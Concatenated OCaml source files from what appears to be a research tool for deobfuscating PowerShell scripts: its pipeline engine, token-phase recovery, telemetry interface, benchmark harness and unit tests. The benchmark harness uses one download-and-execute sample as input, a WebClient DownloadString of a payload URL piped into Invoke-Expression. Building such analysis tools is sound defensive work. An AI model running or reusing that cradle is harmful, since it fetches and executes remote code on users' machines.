         its own guarded phase, so a fault (including one injected at the
         recover.dynamic chaos site) degrades to the static result; a
         successful substitution opens new static folds, so the fixpoint
         runs once more over the patched text. *)
      let recovered, iterations =
        if (not options.recovery.use_dynamic) || Guard.expired deadline then
          (recovered, iterations)
        else
          match
            timed "dynamic" (fun () ->
                Guard.protect ~deadline ~max_output_bytes
                  ~measure:(fun (s, _) -> String.length s)
                  (fun () ->
                    match
                      Recover.run_dynamic ~opts:options.recovery ~stats ~log
                        ~pass:iterations ~suppress recovered
                    with
                    | None -> (recovered, iterations)
                    | Some (patched, _) ->
                        let out, extra =
                          fixpoint_from ~opts:options ~stats ~cache ~depth:0
                            ~log ~suppress patched
                        in
                        (out, iterations + extra)))
          with
          | Ok r -> r
          | Error failure ->
              record "dynamic" failure;
              (recovered, iterations)
      in
      if Guard.expired deadline then begin
        (* the fixpoint loop stopped itself on the deadline: partial
           recovery is kept, later phases are skipped *)
        if not (List.exists (fun s -> s.failure = Guard.Timeout) !failures)
        then record "recovery" Guard.Timeout;
        finish recovered iterations
      end
      else begin
        (* a finalize pseudo-suppression (semantic gate attributing the
           divergence to rename/reformat) rolls back the whole phase; the
           quarantine breaker for "engine.finalize" skips it up front *)
        let options =
          if
            Editlog.finalize_suppressed suppress
            || not (Quarantine.admits ~phase:"engine" ~kind:"finalize")
          then { options with rename = false; reformat = false }
          else options
        in
        let renamed =
          if not options.rename then recovered
          else
            match
              timed "rename" (fun () ->
                  Guard.protect ~deadline ~max_output_bytes
                    ~measure:String.length (fun () ->
                      if residual_encoded recovered then recovered
                      else Rename.rename recovered))
            with
            | Ok s ->
                if not (String.equal s recovered) then
                  T.Metrics.incr (T.Metrics.counter "engine.rule.rename");
                s
            | Error failure ->
                record "rename" failure;
                recovered
        in
        let formatted =
          if not options.reformat then renamed
          else
            match
              timed "reformat" (fun () ->
                  Guard.protect ~deadline ~max_output_bytes
                    ~measure:String.length (fun () -> Rename.reformat renamed))
            with
            | Ok s ->
                if not (String.equal s renamed) then
                  T.Metrics.incr (T.Metrics.counter "engine.rule.reformat");
                s
            | Error failure ->
                record "reformat" failure;
                renamed
        in
        let output =
          match
            timed "check" (fun () ->
                Guard.protect ~deadline (fun () ->
                    Psparse.Parser.is_valid_syntax formatted))
          with
          | Ok true -> formatted
          | Ok false | Error _ -> recovered
        in
        finish output iterations
      end

(** Deobfuscate a script.  Never raises: scripts that fail to lex or parse
    are returned unchanged with [changed = false]. *)
let run ?(options = default_options) src =
  (run_guarded ~options ~timeout_s:infinity ~max_output_bytes:max_int src).result

(** Convenience: deobfuscate and report score reduction. *)
let run_with_scores ?options src =
  let before = Score.score src in
  let result = run ?options src in
  let after = Score.score result.output in
  (result, before, after)

type phase_output = { phase : string; text : string }

(** The staged view of the pipeline (paper Fig 7): the script after token
    parsing, after variable tracing and recovery, and after renaming and
    reformatting. *)
let run_phases ?(options = default_options) src =
  if not (Psparse.Parser.is_valid_syntax src) then
    [ { phase = "original"; text = src } ]
  else begin
    (* each stage is computed exactly once: the fixpoint continues from the
       token-parsed text, and the final stage finalizes the recovered text *)
    let stats = Recover.new_stats () in
    let cache = Recover.Cache.create () in
    let after_tokens = if options.token_phase then Token_phase.run src else src in
    let recovered, _ =
      fixpoint_from ~opts:options ~stats ~cache ~depth:0 after_tokens
    in
    let final = finalize ~options recovered in
    [
      { phase = "original"; text = src };
      { phase = "token parsing"; text = after_tokens };
      { phase = "variable tracing and recovery"; text = recovered };
      { phase = "renaming and reformatting"; text = final };
    ]
  end
