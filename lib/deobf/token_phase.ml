(** Token parsing phase (paper §III-A).

    Recovers L1 obfuscation from token attributes alone: backtick removal
    (the tokenizer already strips ticks from [content]), alias expansion,
    canonical casing for commands / keywords / operators / members / types,
    and line-continuation removal.  Each recovered token is replaced in
    place. *)

open Pscommon
module T = Pslex.Token

(* canonical casing for members that appear in obfuscated recovery code *)
let member_case_table =
  List.fold_left
    (fun acc m -> Strcase.Map.add m m acc)
    Strcase.Map.empty
    [
      "Replace"; "Split"; "Join"; "Substring"; "ToUpper"; "ToLower";
      "ToCharArray"; "ToString"; "Trim"; "TrimStart"; "TrimEnd"; "StartsWith";
      "EndsWith"; "Contains"; "IndexOf"; "LastIndexOf"; "Insert"; "Remove";
      "PadLeft"; "PadRight"; "Normalize"; "Length"; "Count"; "Chars";
      "Invoke"; "InvokeReturnAsIs"; "DownloadString"; "DownloadFile";
      "DownloadData"; "OpenRead"; "ReadToEnd"; "ReadLine"; "Close"; "Dispose";
      "GetString"; "GetBytes"; "FromBase64String"; "ToBase64String";
      "ToInt32"; "ToInt16"; "ToChar"; "ToByte"; "GetType"; "Create";
      "Unicode"; "UTF8"; "ASCII"; "Default"; "Reverse"; "GetEnumerator";
      "SecureStringToBSTR"; "PtrToStringAuto"; "PtrToStringBSTR";
      "GetEncoding"; "Decompress"; "Compress"; "Keys"; "Values";
    ]

let type_case_table =
  List.fold_left
    (fun acc t -> Strcase.Map.add t t acc)
    Strcase.Map.empty
    [
      "string"; "char"; "int"; "long"; "byte"; "bool"; "double"; "float";
      "array"; "object"; "regex"; "scriptblock"; "void"; "char[]"; "byte[]";
      "int[]"; "string[]"; "Convert"; "Text.Encoding"; "System.Text.Encoding";
      "Math"; "Environment"; "IO.MemoryStream"; "System.IO.MemoryStream";
      "IO.StreamReader"; "IO.Compression.DeflateStream";
      "IO.Compression.GzipStream"; "IO.Compression.CompressionMode";
      "Runtime.InteropServices.Marshal";
      "System.Runtime.InteropServices.Marshal"; "System.Convert";
      (* type names that appear as New-Object arguments *)
      "Net.WebClient"; "System.Net.WebClient"; "Net.Sockets.TcpClient";
      "System.Net.Sockets.TcpClient"; "Uri"; "System.Uri";
    ]

let canonical_member name =
  match Strcase.Map.find_opt name member_case_table with
  | Some canonical -> canonical
  | None -> name

let canonical_type name =
  match Strcase.Map.find_opt name type_case_table with
  | Some canonical -> canonical
  | None -> name

let recover_command t =
  (* content already has backticks removed; then resolve aliases and
     canonicalise case of known cmdlets *)
  let content = t.T.content in
  match Pslex.Aliases.resolve content with
  | Some full -> Some full
  | None -> (
      match Pslex.Aliases.canonical_case content with
      | Some canonical -> if canonical <> t.T.text then Some canonical else None
      | None -> if content <> t.T.text then Some content else None)

let token_edit t =
  match t.T.kind with
  | T.Command -> (
      match recover_command t with
      | Some replacement -> Some (Patch.edit t.T.extent replacement, "command")
      | None -> None)
  | T.Keyword ->
      (* keywords canonicalise to lowercase; content is already lowered *)
      if t.T.content <> t.T.text then
        Some (Patch.edit t.T.extent t.T.content, "keyword")
      else None
  | T.Command_parameter ->
      let lowered = Strcase.lower t.T.text in
      if lowered <> t.T.text then
        Some (Patch.edit t.T.extent lowered, "parameter")
      else None
  | T.Operator ->
      (* dash-word operators: content is the lowercase spelling *)
      if
        String.length t.T.content > 1
        && t.T.content.[0] = '-'
        && t.T.content <> t.T.text
      then Some (Patch.edit t.T.extent t.T.content, "operator")
      else None
  | T.Member ->
      let canonical = canonical_member t.T.content in
      if canonical <> t.T.text then
        Some (Patch.edit t.T.extent canonical, "member")
      else None
  | T.Type_name ->
      let canonical = canonical_type t.T.content in
      if "[" ^ canonical ^ "]" <> t.T.text then
        Some (Patch.edit t.T.extent ("[" ^ canonical ^ "]"), "type")
      else None
  | T.Variable ->
      (* variable names are case-insensitive; lowercase unifies them.
         ${...} braced forms are kept as-is. *)
      if
        String.length t.T.text > 1
        && t.T.text.[1] <> '{'
        && Strcase.lower t.T.text <> t.T.text
      then Some (Patch.edit t.T.extent (Strcase.lower t.T.text), "variable")
      else None
  | T.Line_continuation -> Some (Patch.edit t.T.extent " ", "continuation")
  | T.Command_argument ->
      (* barewords also carry ticks; well-known type-name arguments (e.g.
         [New-Object Net.WebClient]) additionally canonicalise their case *)
      let recovered =
        match Strcase.Map.find_opt t.T.content type_case_table with
        | Some canonical -> canonical
        | None -> t.T.content
      in
      if recovered <> t.T.text then
        Some (Patch.edit t.T.extent recovered, "argument")
      else None
  | T.Comment | T.Group_start | T.Group_end
  | T.Index_start | T.Index_end | T.New_line | T.Number
  | T.Statement_separator | T.String_single | T.String_double
  | T.String_single_here | T.String_double_here | T.Splat_variable ->
      None

(** Run the token phase, one tokenize and (only when edits landed) one
    validating parse.  [None] when the phase changed nothing — the input
    does not lex, no token needs recovery, or the patched result would not
    parse (paper §IV-A: skip a step that introduces syntax errors).
    [Some (patched, ast)] carries the validated parse of the result so the
    caller can thread it into the next stage without re-parsing. *)
let run_shared ?log ?(pass = 0) ?(suppress = []) src =
  match Pslex.Lexer.tokenize src with
  | Error _ -> None
  | Ok toks -> (
      let keep (e, kind) =
        Quarantine.admits ~phase:"token" ~kind
        && (suppress = []
           ||
           let start = e.Patch.extent.Extent.start
           and stop = e.Patch.extent.Extent.stop in
           not
             (Editlog.suppressed suppress ~phase:"token"
                ~before:(String.sub src start (stop - start))
                ~after:e.Patch.replacement))
      in
      let pairs = List.filter keep (List.filter_map token_edit toks) in
      let edits = List.map fst pairs in
      if edits = [] then None
      else
        match Patch.apply src edits with
        | patched when not (String.equal patched src) -> (
            match Psparse.Parser.parse patched with
            | Ok ast ->
                (* rule attribution, counted only for edits that landed in a
                   syntactically valid result *)
                List.iter
                  (fun (_, kind) ->
                    Telemetry.Metrics.incr
                      (Telemetry.Metrics.counter ("token.rule." ^ kind)))
                  pairs;
                Option.iter
                  (fun l -> Editlog.record_stage l ~phase:"token" ~pass ~src pairs)
                  log;
                Some (patched, ast)
            | Error _ -> None)
        | _ -> None
        | exception Invalid_argument _ -> None)

(** Run the token phase.  The result is checked for syntactic validity; on
    any breakage the input is returned unchanged. *)
let run ?log ?pass ?suppress src =
  match run_shared ?log ?pass ?suppress src with
  | Some (patched, _) -> patched
  | None -> src
