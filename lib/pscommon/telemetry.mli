(** Observability substrate: span tracer, metrics registry, leveled logger.

    Three independent facilities behind one zero-dependency module:
    {ul
    {- a {e span/event tracer} — nestable spans and point events with
       monotonic (non-decreasing) millisecond timestamps and typed
       attributes, recorded into a per-run ring buffer that serializes to
       JSONL.  A trace is installed as the {e ambient} context of the
       current domain ([Domain.DLS]), so instrumented code anywhere below
       records into it without threading a handle — and parallel batch
       workers, each installing their own per-file trace, never share a
       buffer;}
    {- a {e metrics registry} — process-global named counters, gauges and
       log-scale latency histograms, every cell an [Atomic], safe to bump
       from any pool domain concurrently and aggregated by {!Metrics.snapshot};}
    {- a {e leveled logger} — [error|warn|info|debug] to stderr, silent by
       default, for the ad-hoc prints a pipeline otherwise accretes.}}

    The disabled fast path (no ambient trace installed) is a domain-local
    read plus a comparison — no allocation — so call sites stay
    unconditional even in hot loops. *)

(** Leveled stderr logger, silent unless {!Log.set_level} enables it. *)
module Log : sig
  type level = Error | Warn | Info | Debug

  val of_string : string -> level option
  (** ["error" | "warn"("ing") | "info" | "debug"], case-insensitive. *)

  val label : level -> string

  val set_level : level option -> unit
  (** [None] (the default) silences everything; [Some l] enables messages
      at [l] and above.  Stored in an [Atomic]: a level set before spawning
      pool workers is visible to all of them. *)

  val level : unit -> level option

  val enabled : level -> bool

  val error : (unit -> string) -> unit
  val warn : (unit -> string) -> unit
  val info : (unit -> string) -> unit
  val debug : (unit -> string) -> unit
  (** Messages are thunks so a disabled level formats nothing.  Emission is
      mutex-serialized: concurrent domains never interleave lines. *)
end

(** {1 Traces} *)

type attr_value = S of string | I of int | F of float | B of bool
type attr = string * attr_value

type kind = Span_begin | Span_end | Point

type event = {
  seq : int;  (** 0-based position in the run's full event stream *)
  t_ms : float;
      (** milliseconds since trace creation; clamped so the stream is
          non-decreasing even if the wall clock steps backwards *)
  kind : kind;
  name : string;
  id : int;  (** span id ([>= 1]) for begin/end events; [0] for points *)
  parent : int;  (** id of the enclosing span, [0] at top level *)
  attrs : attr list;
}

type trace
(** A bounded per-run event buffer.  Single-domain by design: install it
    with {!with_trace} and record through the ambient API.  When more than
    [capacity] events are pushed the ring overwrites the oldest and counts
    them in {!dropped}. *)

val create : ?capacity:int -> unit -> trace
(** Default capacity 65536 events (floor 16). *)

val reset : trace -> unit
(** Rewind the trace to empty for reuse, keeping the allocated ring: the
    clock restarts, sequence numbers and span ids restart at 0, and the
    open-span stack is cleared.  Long-running services (and sampling batch
    runs) reuse one ring per domain instead of allocating one per
    request. *)

val install : trace -> unit
(** Make [trace] the current domain's ambient trace. *)

val uninstall : unit -> unit

val with_trace : trace -> (unit -> 'a) -> 'a
(** Install for the duration of the call (exception-safe), restoring the
    previously ambient trace afterwards. *)

val active : unit -> bool
(** Whether an ambient trace is installed in this domain — the guard hot
    call sites use before building attribute lists. *)

val span : ?attrs:attr list -> string -> (unit -> 'a) -> 'a
(** [span name f] wraps [f] in a begin/end event pair nested under the
    innermost open span.  With no ambient trace this is [f ()]. *)

val span_begin : ?attrs:attr list -> string -> int
(** Imperative variant for call sites that attach result attributes to the
    end event: returns the span id, or [0] when no trace is installed. *)

val span_end : ?attrs:attr list -> int -> unit
(** Close the span by id ([0] is a no-op).  Spans opened after it and still
    open are auto-closed first, so a non-local exit cannot corrupt
    nesting. *)

val event : ?attrs:attr list -> string -> unit
(** Record a point event under the innermost open span. *)

val events : trace -> event list
(** Buffered events, oldest first (at most [capacity]; earlier ones were
    dropped by the ring). *)

val dropped : trace -> int

val to_jsonl : trace -> string
(** One JSON object per event per line, oldest first, closed by a summary
    line [{"kind": "summary", "events": total, "dropped": n}]. *)

(** {1 Metrics} *)

(** Process-global registry of named counters, gauges and log-scale latency
    histograms.  Handles are cheap to look up (get-or-create under a mutex)
    and updates are lock-free [Atomic] operations, so pool domains bump the
    same cells concurrently; {!Metrics.snapshot} aggregates across all of
    them at join time. *)
module Metrics : sig
  type counter

  val counter : string -> counter
  (** Get or create by name. *)

  val incr : ?by:int -> counter -> unit
  val counter_value : counter -> int

  type gauge

  val gauge : string -> gauge
  val set : gauge -> int -> unit
  val gauge_value : gauge -> int

  type histogram
  (** Log-scale (base-2) latency histogram in milliseconds: bucket bounds
      run from 1/16 ms doubling to ~37 h, plus an overflow bucket.
      Observations at a bound land in that bucket; [<= 1/16 ms] (including
      zero and negatives) land in the first. *)

  val histogram : string -> histogram
  val observe : histogram -> float -> unit

  val bucket_bound : int -> float
  (** Upper bound (ms) of bucket [i]; [infinity] for the overflow bucket. *)

  val bucket_of : float -> int
  (** Index of the bucket an observation lands in. *)

  val bucket_count : int

  type histogram_snapshot = {
    hs_count : int;
    hs_sum : float;
    hs_min : float;  (** [nan] when empty *)
    hs_max : float;  (** [nan] when empty *)
    hs_buckets : (float * int) list;
        (** non-empty buckets as (upper bound ms, count), bound order; the
            overflow bucket's bound is [infinity] *)
  }

  type snapshot = {
    counters : (string * int) list;  (** sorted by name *)
    gauges : (string * int) list;
    histograms : (string * histogram_snapshot) list;
  }

  val snapshot : unit -> snapshot

  val quantile : histogram_snapshot -> float -> float
  (** [quantile hs q] ([q] in [0,1], clamped) estimates the q-th latency
      quantile as the upper bound of the log2 bucket holding the q-th
      observation ([hs_max] for the overflow bucket); [nan] when empty.
      Coarse (buckets double) but monotone — the daemon's p50/p99. *)

  val reset : unit -> unit
  (** Zero every registered value (handles stay valid) — run at the start
      of a batch so the run-level rollup covers exactly that run. *)

  val snapshot_to_json : snapshot -> string
end

(** {1 JSON helpers} *)

val json_escape : string -> string
val json_string : string -> string
