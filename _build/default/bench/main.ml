(* Benchmark and experiment harness.

   One target per table/figure of the paper:
     table1 table2 fig5 fig6 table3 table4 table5 case ablate micro
   No argument runs everything except micro (the Bechamel throughput
   suite, which takes a while on its own). *)

let line () = print_endline (String.make 78 '-')

let run_table1 () =
  line ();
  Experiments.Table1.print (Experiments.Table1.run ())

let run_table2 () =
  line ();
  Experiments.Table2.print (Experiments.Table2.run ())

let shared_set = lazy (Experiments.Effectiveness.make_samples ())

let run_fig5 () =
  line ();
  Experiments.Effectiveness.print_fig5
    (Experiments.Effectiveness.run_fig5 (Lazy.force shared_set))

let run_fig6 () =
  line ();
  Experiments.Effectiveness.print_fig6
    (Experiments.Effectiveness.run_fig6 (Lazy.force shared_set))

let run_table3 () =
  line ();
  Experiments.Table3.print (Experiments.Table3.run ())

let run_table4 () =
  line ();
  Experiments.Table4.print (Experiments.Table4.run (Lazy.force shared_set))

let run_table5 () =
  line ();
  Experiments.Table5.print (Experiments.Table5.run ())

let run_case () =
  line ();
  Experiments.Case_study.print ()

let run_ablate () =
  line ();
  Experiments.Ablation.print (Experiments.Ablation.run ())

let run_amsi () =
  line ();
  Experiments.Amsi_compare.print
    (Experiments.Amsi_compare.run (Lazy.force shared_set))

let run_unknown () =
  line ();
  Experiments.Unknown_techniques.print (Experiments.Unknown_techniques.run ())

let run_limits () =
  line ();
  Experiments.Limitations.print (Experiments.Limitations.run ())

let run_funnel () =
  line ();
  Experiments.Preprocess_stats.print (Experiments.Preprocess_stats.run ())

(* ---------- Bechamel micro-benchmarks ---------- *)

let micro_tests () =
  let open Bechamel in
  let sample =
    let rng = Pscommon.Rng.of_int 5 in
    Obfuscator.Obfuscate.multilayer rng 2
      "$u = 'https://example.com/payload.txt'\n\
       (New-Object Net.WebClient).DownloadString($u) | Invoke-Expression"
  in
  let simple = "('wri'+'te-host') ('he'+'llo')" in
  [
    Test.make ~name:"lexer/multilayer-sample"
      (Staged.stage (fun () -> ignore (Pslex.Lexer.tokenize sample)));
    Test.make ~name:"parser/multilayer-sample"
      (Staged.stage (fun () -> ignore (Psparse.Parser.parse sample)));
    Test.make ~name:"interp/concat-piece"
      (Staged.stage (fun () ->
           let env = Pseval.Env.create () in
           ignore (Pseval.Interp.invoke_piece env "'he'+'llo'")));
    Test.make ~name:"deobf/simple"
      (Staged.stage (fun () -> ignore (Deobf.Engine.run simple)));
    Test.make ~name:"deobf/multilayer"
      (Staged.stage (fun () -> ignore (Deobf.Engine.run sample)));
    Test.make ~name:"score/multilayer-sample"
      (Staged.stage (fun () -> ignore (Deobf.Score.score sample)));
    Test.make ~name:"deflate/roundtrip-1k"
      (Staged.stage (fun () ->
           let data =
             String.concat "" (List.init 128 (fun i -> Printf.sprintf "line %d;" i))
           in
           ignore (Encoding.Inflate.inflate_exn (Encoding.Deflate.deflate data))));
  ]

let run_micro () =
  line ();
  print_endline "Bechamel micro-benchmarks (monotonic clock)";
  let open Bechamel in
  let instance = Toolkit.Instance.monotonic_clock in
  let cfg = Benchmark.cfg ~limit:300 ~quota:(Time.second 0.5) () in
  List.iter
    (fun test ->
      let results = Benchmark.all cfg [ instance ] (Test.make_grouped ~name:"micro" [ test ]) in
      let analyzed =
        Analyze.all
          (Analyze.ols ~bootstrap:0 ~r_square:false ~predictors:[| Measure.run |])
          instance results
      in
      Hashtbl.iter
        (fun name ols ->
          match Analyze.OLS.estimates ols with
          | Some [ est ] -> Printf.printf "  %-36s %14.1f ns/run\n" name est
          | Some _ | None -> Printf.printf "  %-36s (no estimate)\n" name)
        analyzed)
    (micro_tests ())

let registry =
  [ ("table1", run_table1); ("table2", run_table2); ("fig5", run_fig5);
    ("fig6", run_fig6); ("table3", run_table3); ("table4", run_table4);
    ("table5", run_table5); ("case", run_case); ("ablate", run_ablate);
    ("amsi", run_amsi); ("unknown", run_unknown); ("limits", run_limits);
    ("funnel", run_funnel); ("micro", run_micro) ]

let () =
  match Array.to_list Sys.argv with
  | _ :: (_ :: _ as names) ->
      List.iter
        (fun name ->
          match List.assoc_opt name registry with
          | Some f -> f ()
          | None ->
              Printf.eprintf "unknown experiment %s; available: %s\n" name
                (String.concat " " (List.map fst registry));
              exit 1)
        names
  | _ -> List.iter (fun (name, f) -> if name <> "micro" then f ()) registry
