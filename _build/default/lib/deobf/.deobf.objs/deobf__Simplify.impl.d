lib/deobf/simplify.ml: Psast Pscommon Psparse
