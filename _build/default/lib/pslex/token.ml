type kind =
  | Command
  | Command_argument
  | Command_parameter
  | Comment
  | Group_start
  | Group_end
  | Index_start
  | Index_end
  | Keyword
  | Line_continuation
  | Member
  | New_line
  | Number
  | Operator
  | Statement_separator
  | String_single
  | String_double
  | String_single_here
  | String_double_here
  | Type_name
  | Variable
  | Splat_variable

type t = {
  kind : kind;
  content : string;
  text : string;
  extent : Pscommon.Extent.t;
}

let kind_name = function
  | Command -> "Command"
  | Command_argument -> "CommandArgument"
  | Command_parameter -> "CommandParameter"
  | Comment -> "Comment"
  | Group_start -> "GroupStart"
  | Group_end -> "GroupEnd"
  | Index_start -> "IndexStart"
  | Index_end -> "IndexEnd"
  | Keyword -> "Keyword"
  | Line_continuation -> "LineContinuation"
  | Member -> "Member"
  | New_line -> "NewLine"
  | Number -> "Number"
  | Operator -> "Operator"
  | Statement_separator -> "StatementSeparator"
  | String_single -> "StringSingle"
  | String_double -> "StringDouble"
  | String_single_here -> "StringSingleHere"
  | String_double_here -> "StringDoubleHere"
  | Type_name -> "Type"
  | Variable -> "Variable"
  | Splat_variable -> "SplatVariable"

let pp fmt t =
  Format.fprintf fmt "%s%a %S" (kind_name t.kind) Pscommon.Extent.pp t.extent
    t.content

let is_string t =
  match t.kind with
  | String_single | String_double | String_single_here | String_double_here ->
      true
  | Command | Command_argument | Command_parameter | Comment | Group_start
  | Group_end | Index_start | Index_end | Keyword | Line_continuation | Member
  | New_line | Number | Operator | Statement_separator | Type_name | Variable
  | Splat_variable ->
      false

let is_bareword t =
  match t.kind with
  | Command | Command_argument -> true
  | _ -> false
