lib/experiments/table1.ml: Corpus Deobf List Printf
