lib/deobf/tracer.mli: Psast Pseval Psvalue
