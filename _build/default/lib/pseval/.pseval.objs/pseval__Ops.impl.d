lib/pseval/ops.ml: Array Buffer Float List Printf Psast Pscommon Psvalue Regexen String Value
