lib/pslex/token.ml: Format Pscommon
