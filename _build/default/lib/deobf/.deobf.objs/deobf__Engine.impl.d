lib/deobf/engine.ml: Char List Psast Pscommon Pslex Psparse Recover Rename Score Simplify String Token_phase Tracer
