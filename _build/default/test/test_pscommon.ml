(* Tests for the pscommon substrate: extents, patching, RNG, caseless
   strings. *)

open Pscommon

let check_s = Alcotest.(check string)
let check_i = Alcotest.(check int)
let check_b = Alcotest.(check bool)

(* ---------- Extent ---------- *)

let test_extent_basics () =
  let e = Extent.make ~start:2 ~stop:5 in
  check_i "length" 3 (Extent.length e);
  check_b "not empty" false (Extent.is_empty e);
  check_b "empty" true (Extent.is_empty (Extent.empty_at 4));
  check_s "text" "cde" (Extent.text "abcdefg" e)

let test_extent_relations () =
  let a = Extent.make ~start:0 ~stop:10 in
  let b = Extent.make ~start:2 ~stop:5 in
  let c = Extent.make ~start:5 ~stop:8 in
  check_b "contains" true (Extent.contains a b);
  check_b "contains self" true (Extent.contains a a);
  check_b "not contains" false (Extent.contains b a);
  check_b "overlaps" true (Extent.overlaps a b);
  check_b "adjacent do not overlap" false (Extent.overlaps b c);
  check_b "before" true (Extent.before b c);
  check_b "not before" false (Extent.before c b)

let test_extent_union_shift () =
  let a = Extent.make ~start:2 ~stop:5 and b = Extent.make ~start:7 ~stop:9 in
  let u = Extent.union a b in
  check_i "union start" 2 u.Extent.start;
  check_i "union stop" 9 u.Extent.stop;
  let s = Extent.shift a 3 in
  check_i "shift start" 5 s.Extent.start

let test_extent_invalid () =
  Alcotest.check_raises "stop<start" (Invalid_argument "Extent.make: stop < start")
    (fun () -> ignore (Extent.make ~start:5 ~stop:2));
  Alcotest.check_raises "negative" (Invalid_argument "Extent.make: negative start")
    (fun () -> ignore (Extent.make ~start:(-1) ~stop:2))

(* ---------- Patch ---------- *)

let e s t = Extent.make ~start:s ~stop:t

let test_patch_single () =
  check_s "replace middle" "aXd" (Patch.apply "abcd" [ Patch.edit (e 1 3) "X" ]);
  check_s "replace empty" "abXcd" (Patch.apply "abcd" [ Patch.edit (e 2 2) "X" ]);
  check_s "delete" "ad" (Patch.apply "abcd" [ Patch.edit (e 1 3) "" ])

let test_patch_multi_order () =
  (* edits given out of order must apply correctly *)
  let edits = [ Patch.edit (e 3 4) "DD"; Patch.edit (e 0 1) "AA" ] in
  check_s "out of order" "AAbcDD" (Patch.apply "abcd" edits)

let test_patch_nested_keeps_outer () =
  let edits = [ Patch.edit (e 0 4) "OUTER"; Patch.edit (e 1 2) "inner" ] in
  check_s "outer wins" "OUTER" (Patch.apply "abcd" edits)

let test_patch_partial_overlap_rejected () =
  let edits = [ Patch.edit (e 0 3) "x"; Patch.edit (e 2 5) "y" ] in
  Alcotest.check_raises "partial overlap"
    (Invalid_argument "Patch.apply: partially overlapping edits") (fun () ->
      ignore (Patch.apply "abcdef" edits))

let test_patch_nested_rejected_in_strict () =
  let edits = [ Patch.edit (e 0 4) "x"; Patch.edit (e 1 2) "y" ] in
  Alcotest.check_raises "nested rejected"
    (Invalid_argument "Patch.apply: nested edits") (fun () ->
      ignore (Patch.apply_exn_on_nested "abcd" edits))

let test_patch_out_of_range () =
  Alcotest.check_raises "outside source"
    (Invalid_argument "Patch.apply: extent outside source") (fun () ->
      ignore (Patch.apply "ab" [ Patch.edit (e 1 5) "x" ]))

(* ---------- Rng ---------- *)

let test_rng_determinism () =
  let a = Rng.of_int 42 and b = Rng.of_int 42 in
  for _ = 1 to 20 do
    check_i "same stream" (Rng.int a 1000) (Rng.int b 1000)
  done

let test_rng_bounds () =
  let rng = Rng.of_int 7 in
  for _ = 1 to 200 do
    let v = Rng.int rng 10 in
    check_b "in bounds" true (v >= 0 && v < 10);
    let w = Rng.int_in rng 5 9 in
    check_b "int_in bounds" true (w >= 5 && w <= 9)
  done

let test_rng_split_independent () =
  let parent = Rng.of_int 1 in
  let child = Rng.split parent in
  (* child and parent produce different streams *)
  let xs = List.init 8 (fun _ -> Rng.int parent 1_000_000) in
  let ys = List.init 8 (fun _ -> Rng.int child 1_000_000) in
  check_b "streams differ" true (xs <> ys)

let test_rng_pick_weighted () =
  let rng = Rng.of_int 3 in
  for _ = 1 to 50 do
    let v = Rng.pick_weighted rng [ (0.0, "never"); (1.0, "always") ] in
    check_s "never pick zero weight" "always" v
  done

let test_rng_shuffle_permutation () =
  let rng = Rng.of_int 9 in
  let xs = [ 1; 2; 3; 4; 5; 6; 7 ] in
  let ys = Rng.shuffle rng xs in
  check_b "same multiset" true (List.sort compare ys = xs)

let test_rng_sample () =
  let rng = Rng.of_int 5 in
  let s = Rng.sample rng 3 [ 1; 2; 3; 4; 5 ] in
  check_i "sample size" 3 (List.length s);
  check_i "no duplicates" 3 (List.length (List.sort_uniq compare s));
  check_i "oversample clamps" 2 (List.length (Rng.sample rng 10 [ 1; 2 ]))

let test_rng_ident () =
  let rng = Rng.of_int 11 in
  for _ = 1 to 50 do
    let id = Rng.ident rng ~min_len:3 ~max_len:8 in
    check_b "length" true (String.length id >= 3 && String.length id <= 8);
    check_b "starts with letter" true
      (match id.[0] with 'a' .. 'z' | 'A' .. 'Z' -> true | _ -> false)
  done

(* ---------- Strcase ---------- *)

let test_strcase_equal () =
  check_b "caseless equal" true (Strcase.equal "IeX" "iex");
  check_b "different" false (Strcase.equal "iex" "iexx")

let test_strcase_affixes () =
  check_b "prefix" true (Strcase.starts_with ~prefix:"INV" "invoke-expression");
  check_b "not prefix" false (Strcase.starts_with ~prefix:"x" "invoke");
  check_b "prefix longer" false (Strcase.starts_with ~prefix:"invoke-expression-long" "invoke");
  check_b "suffix" true (Strcase.ends_with ~suffix:".PS1" "run.ps1");
  check_b "contains" true (Strcase.contains ~needle:"OBJ" "New-Object");
  check_b "empty needle contained" true (Strcase.contains ~needle:"" "x")

let test_strcase_index () =
  Alcotest.(check (option int)) "index" (Some 4) (Strcase.index_opt ~needle:"OBJ" "new-object");
  Alcotest.(check (option int)) "from" (Some 6) (Strcase.index_opt ~from:3 ~needle:"b" "abcdefb");
  Alcotest.(check (option int)) "missing" None (Strcase.index_opt ~needle:"zz" "abc")

let test_strcase_replace_all () =
  check_s "replace caseless" "X-X" (Strcase.replace_all ~needle:"ab" ~replacement:"X" "AB-ab");
  check_s "no occurrence" "xyz" (Strcase.replace_all ~needle:"ab" ~replacement:"Q" "xyz");
  check_s "empty needle" "xyz" (Strcase.replace_all ~needle:"" ~replacement:"Q" "xyz");
  check_s "overlapping scans forward" "XX" (Strcase.replace_all ~needle:"aa" ~replacement:"X" "aaaa")

(* ---------- properties ---------- *)

let prop_patch_preserves_unedited =
  QCheck.Test.make ~name:"patch: text outside edit is preserved" ~count:200
    QCheck.(pair (string_of_size Gen.(int_range 4 40)) small_nat)
    (fun (s, k) ->
      QCheck.assume (String.length s >= 4);
      let start = k mod (String.length s - 2) in
      let stop = start + 1 in
      let out = Patch.apply s [ Patch.edit (Extent.make ~start ~stop) "XYZ" ] in
      String.sub out 0 start = String.sub s 0 start
      && String.length out = String.length s + 2)

let prop_rng_float_bounds =
  QCheck.Test.make ~name:"rng: float stays in bounds" ~count:500 QCheck.small_nat
    (fun seed ->
      let rng = Rng.of_int seed in
      let v = Rng.float rng 3.0 in
      v >= 0.0 && v < 3.0)

let prop_strcase_replace_removes_needle =
  QCheck.Test.make ~name:"strcase: replace_all removes every needle" ~count:200
    QCheck.(string_of_size Gen.(int_range 0 30))
    (fun s ->
      let out = Strcase.replace_all ~needle:"ab" ~replacement:"." s in
      not (Strcase.contains ~needle:"ab" out))

let suite =
  [
    ("extent basics", `Quick, test_extent_basics);
    ("extent relations", `Quick, test_extent_relations);
    ("extent union/shift", `Quick, test_extent_union_shift);
    ("extent invalid", `Quick, test_extent_invalid);
    ("patch single", `Quick, test_patch_single);
    ("patch multi order", `Quick, test_patch_multi_order);
    ("patch nested keeps outer", `Quick, test_patch_nested_keeps_outer);
    ("patch partial overlap rejected", `Quick, test_patch_partial_overlap_rejected);
    ("patch nested rejected strict", `Quick, test_patch_nested_rejected_in_strict);
    ("patch out of range", `Quick, test_patch_out_of_range);
    ("rng determinism", `Quick, test_rng_determinism);
